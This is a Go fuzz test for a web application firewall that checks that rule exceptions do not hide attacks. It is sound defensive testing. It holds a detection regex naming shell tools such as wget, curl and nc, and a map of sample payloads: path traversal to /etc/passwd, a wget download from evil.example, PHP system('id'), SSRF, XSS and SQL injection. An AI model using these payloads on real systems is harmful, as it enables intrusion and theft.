//go:build !race

package waf

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"edge.svc/caddy/features/waf/bodies"
	"edge.svc/caddy/internal/crstest"
)

// suppressed is a match that exceptions suppressed: the value as the rule saw it, what is left of it, and how it came.
type suppressed struct {
	rule             int
	value, rest, raw string
}

// oneValue inspects a request with one value, in its query or in its form. Plainly it is what the rule set sees by itself;
// otherwise it is read as the value of any request.
func oneValue(t testing.TB, s *settings, value string, query, plainly bool) (v verdict, by []suppressed) {
	t.Helper()
	rules, err := exactRules()
	if !plainly {
		rules, err = component.Of(sharedCore()).need()
	}
	if err != nil {
		t.Fatal(err)
	}
	b := takeBudget(patternTimeOfTests)
	defer b.giveBack()
	b.suppressed = func(rule int, value, rest, raw string) { by = append(by, suppressed{rule, value, rest, raw}) }
	target := "/"
	if query && !plainly {
		target = "/?a=" + url.QueryEscape(value)
	}
	x := asked("POST", target, "-", form)
	defer x.Reset()
	o := &rounds{rules: rules, x: x, s: s, kind: bodies.Form, budget: b, yield: always}
	defer o.close()
	o.begin()
	switch {
	case query && plainly:
		o.vars.ArgsGet().Add("a", value)
	case plainly:
		o.vars.ArgsPost().Add("a", value)
	case !query:
		post := &bodies.Arguments{Add: o.addPost}
		post.Put("a", value)
		post.End()
	}
	if o.end(); o.err != nil {
		t.Fatal(o.err)
	}
	return o.verdict, by
}

// neverSuppressed are the families that have no exceptions.
var neverSuppressed = []int{901, 911, 913, 922, 944, 949, 959, 980}

// commands are what attacks begin with that no exception may hide: a program, and what it needs no words for.
var commands = regexp.MustCompile("(?:^|[;|&\n])[ \t]*(?:cat|echo|id|who|whoami|wget|curl|nc|bash|sh|uname|xargs)[ \t]+(?:-\\w|[/~$<>`]|\\.\\.?/|https?://)|" +
	"[;|&\n][ \t]*(?:wget|curl|whoami|nc|netcat)\\b|\\$\\([a-z]+|`[a-z]+[ `]|[<>]\\((?:id|cat|sh|curl|wget)")

// beside are attacks that are found beside whatever an exception is for, each of a family.
var beside = map[int]string{
	920: "; filename=\"a.php", 921: "\r\nSet-Cookie: a=b", 930: "/../../../../etc/passwd", 931: "http://evil.example/shell.txt?", 932: "wget -O /tmp/x http://evil.example/x; cat /etc/passwd",
	933: "<?php system('id'); ?>", 934: "http://127.0.0.1:8080/", 941: "<script>alert(1)</script>", 942: "1' or '1'='1' union select password from users-- ",
}

// FuzzExceptions looks for attacks that get by because of what is taken for harmless: a value that the rule set detects by
// itself is detected, unless a registered exception says why not, and its evidence hides nothing that stands beside it.
func FuzzExceptions(f *testing.F) {
	for _, cases := range exceptedCases {
		for _, c := range cases {
			f.Add(c.value, false)
			f.Add(c.value, true)
		}
	}
	all := crstest.All(f)
	for i := 0; i < len(all); i += 40 {
		if aboutExceptions(&all[i]) {
			for _, attack := range attacksOf(&all[i]) {
				f.Add("Hello, this is my message "+attack+"\nthank you for your help", i%80 == 0)
			}
		}
	}
	s := settingsOf(f, asIs)
	f.Fuzz(func(t *testing.T, value string, query bool) {
		if len(value) > 2000 || value == "" {
			return
		}
		plain, _ := oneValue(t, s, value, query, true)
		usual, by := oneValue(t, s, value, query, false)
		for _, one := range by {
			evidenceHolds(t, value, one)
		}
		if plain.score < s.threshold || usual.score >= s.threshold {
			return
		}
		if commands.MatchString(value) {
			t.Errorf("a command gets by: %q, %v", value, plain.rules)
		}
		var read []string
		post := &bodies.Arguments{Add: func(_, value string) { read = append(read, value) }}
		post.Put("a", value)
		post.End()
		for _, rule := range plain.rules {
			if slices.Contains(usual.rules, rule) || slices.ContainsFunc(by, func(one suppressed) bool { return one.rule == rule }) || rule == 0 {
				continue
			}
			if slices.Equal(read, []string{value}) {
				t.Errorf("nothing says why %d is not found: %q", rule, value)
			}
		}
		// Whatever stands beside it is still found.
		families := map[int]bool{}
		for _, rule := range plain.rules {
			families[rule/rulesInFamily] = true
		}
		for family := range families {
			attack := beside[family]
			if attack == "" || family < 930 {
				continue
			}
			for _, both := range []string{value + "\n" + attack, attack + "\n" + value, value + "; " + attack} {
				if exact, _ := oneValue(t, s, both, query, true); exact.score < s.threshold {
					continue
				}
				if v, _ := oneValue(t, s, both, query, false); v.score < s.threshold {
					t.Errorf("an attack gets by beside it: %q", both)
				}
			}
		}
	})
}

// evidenceHolds fails for a match that no exception may suppress.
func evidenceHolds(t *testing.T, value string, one suppressed) {
	t.Helper()
	known := exceptedBy[one.rule]
	switch {
	case len(known) == 0, slices.Contains(neverSuppressed, one.rule/rulesInFamily):
		t.Errorf("rule %d has no exceptions: %q", one.rule, value)
	case !utf8.ValidString(one.raw) || !utf8.ValidString(one.value) || len(one.value) > maxExcepted:
		t.Errorf("rule %d: no text, or too much: %q", one.rule, value)
	case one.rest == one.value || !slices.ContainsFunc(known, func(e *exception) bool { return e.evidence(one.value, one.raw) != one.value }):
		t.Errorf("rule %d: no evidence: %q", one.rule, value)
	}
	if one.rule/rulesInFamily == 932 {
		for _, mark := range []string{"`", "$(", "${", "||", "&&"} {
			if strings.Count(one.rest, mark) < strings.Count(one.value, mark) {
				t.Errorf("rule %d: %q is left out of %q", one.rule, mark, value)
			}
		}
	}
}
